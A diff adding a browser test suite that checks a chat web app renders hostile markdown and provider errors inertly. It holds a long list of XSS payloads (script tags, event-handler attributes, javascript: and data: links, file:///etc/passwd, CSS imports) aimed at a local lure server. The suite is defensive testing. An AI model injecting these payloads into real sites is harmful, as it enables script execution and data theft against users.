@@ -1,0 +1,118 @@
+import { openAiChat, ScriptedProvider } from '@echo/testing';
+import { describeInBrowser } from './support/chromium';
+import { eventually } from './support/eventually';
+import { takePicture } from './support/pictures';
+import { type Tab } from './support/tab';
+import { TestWeb } from './support/test-web';
+
+describeInBrowser('text that means harm', () => {
+  let web: TestWeb;
+  /** A server of somebody else's, on this machine: whoever connects to it has been lured. */
+  let lure: ScriptedProvider;
+
+  beforeAll(async () => {
+    [web, lure] = await Promise.all([TestWeb.start(), ScriptedProvider.start()]);
+  });
+  afterAll(() => Promise.all([web.stop(), lure.stop()]));
+  afterEach(() => web.endWalk());
+
+  const markdown = (to: string) =>
+    [
+      `<script>window.harmed = 1; fetch('${to}/script')</script>`,
+      `<img src="${to}/img" onerror="window.harmed = 1">`,
+      `<svg onload="window.harmed = 1"><image href="${to}/svg"/></svg>`,
+      `<iframe src="${to}/frame" srcdoc="<script>parent.harmed = 1</script>"></iframe>`,
+      `<object data="${to}/object"></object><embed src="${to}/embed"><video poster="${to}/poster" src="${to}/video"></video>`,
+      `<link rel="stylesheet" href="${to}/style"><style>@import url("${to}/import"); * { display: none }</style>`,
+      `<base href="${to}/"><meta http-equiv="refresh" content="0;url=${to}/refresh">`,
+      `<form action="${to}/form"><button autofocus onfocus="window.harmed = 1">Send</button></form>`,
+      `<a href="javascript:window.harmed=1" onmouseover="window.harmed=1">html link</a>`,
+      `![a picture](${to}/image?secret=1)`,
+      `![by reference][pic]`,
+      `[pic]: ${to}/reference`,
+      '[script link](javascript:window.harmed=1)',
+      '[coded](&#106;avascript:window.harmed=1)',
+      '[tabbed](java\tscript:window.harmed=1)',
+      '<javascript:window.harmed=1>',
+      '[data](data:text/html,<script>window.harmed=1</script>)',
+      '[vb](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:x)',
+      `[fine](${to}/fine) and <${to}/autolink> and ${to}/bare`,
+      `| cell <img src=x onerror="window.harmed=1"> | ![p](${to}/cell) |\n|---|---|\n| <svg/onload=window.harmed=1> | \`${to}/code\` |`,
+      '```html\n<img src=x onerror="window.harmed=1">\n```',
+      '```mermaid\ngraph TD; A["<img src=x onerror=window.harmed=1>"]\n```',
+      `$$\\href{javascript:window.harmed=1}{x}\\includegraphics{${to}/tex}$$`,
+      'The very end.',
+    ].join('\n\n');
+
+  async function expectInert(tab: Tab): Promise<void> {
+    expect(await tab.page.evaluate(() => (window as unknown as { harmed?: number }).harmed)).toBeUndefined();
+    const found = await tab.log.evaluate((log) => ({
+      elements: [...log.querySelectorAll('script,img,svg image,iframe,object,embed,video,audio,link,style,base,meta,form,math')].map(
+        (each) => each.tagName,
+      ),
+      handlers: [...log.querySelectorAll('*')].flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on'))),
+      protocols: [...new Set([...log.querySelectorAll('a')].map((link) => link.protocol))],
+      open: [...log.querySelectorAll('a')].filter((link) => !link.relList.contains('noopener') && link.target === '_blank').length,
+    }));
+    expect(found).toEqual({ elements: [], handlers: [], protocols: ['http:'], open: 0 });
+    expect(lure.connections).toBe(0);
+  }
+
+  it.each([
+    ['under the policy', false],
+    ['even if the browser knew no policy', true],
+  ])('runs nothing and fetches nothing, streamed, at rest and after a reload, %s', async (_how, bypassCSP) => {
+    const pieces = markdown(lure.origin).match(/.{1,23}/gs) ?? [];
+    web.provider.enqueue(
+      openAiChat.text(pieces, { pace: 2, reasoning: [`<img src=x onerror="window.harmed=1">![r](${lure.origin}/reasoning)`] }),
+    );
+    const tab = await web.open('/', { bypassCSP });
+    await tab.ask(`<img src=x onerror="window.harmed=1">![t](${lure.origin}/title)`, 'The very end.');
+    await tab.answer.locator('summary').click();
+    await expectInert(tab);
+    if (!bypassCSP) await takePicture(tab.page, 'hostile');
+    expect(await tab.page.title()).toContain('<img src=x');
+    await tab.page.reload();
+    await tab.reads('The very end.');
+    await tab
+      .listed(/<img src=x/)
+      .first()
+      .hover();
+    for (const link of await tab.answer.getByRole('link').all()) await link.hover();
+    await expectInert(tab);
+  });
+
+  it('is not repeated from what a provider says about a failure', async () => {
+    web.provider.enqueue(openAiChat.error(400, { message: `<img src=x onerror="window.harmed=1"> ![x](${lure.origin}/error)` }));
+    const tab = await web.open();
+    await tab.say('Fail');
+    await tab.button('Regenerate').waitFor();
+    expect(await tab.page.getByRole('main').innerText()).not.toContain('onerror');
+    expect(lure.connections).toBe(0);
+  });
+
+  it('would be noticed here: the policy is in force, and a breach of it is a fault of the walk', async () => {
+    const tab = await web.open();
+    const { headers } = await fetch(web.app.url);
+    const policy = headers.get('content-security-policy') ?? '';
+    expect(policy).toContain("require-trusted-types-for 'script'");
+    expect(policy).not.toContain('unsafe-');
+    const refused = await tab.page.evaluate(async (to) => {
+      const outcome: string[] = [];
+      try {
+        document.createElement('div').setHTMLUnsafe('<b>no</b>');
+      } catch (error) {
+        outcome.push((error as Error).name);
+      }
+      await fetch(to).catch((error: Error) => outcome.push(error.name));
+      return outcome;
+    }, lure.origin);
+    expect(refused).toEqual(['TypeError', 'TypeError']);
+    expect(lure.connections).toBe(0);
+    await eventually(() => {
+      const faults = tab.faults.join('\n');
+      for (const kind of ['require-trusted-types-for', 'connect-src']) expect(faults).toContain(`policy violated: ${kind}`);
+    });
+    tab.allow(/policy violated|Content Security Policy|Refused to|Trusted|request to http/i);
+  });
+});
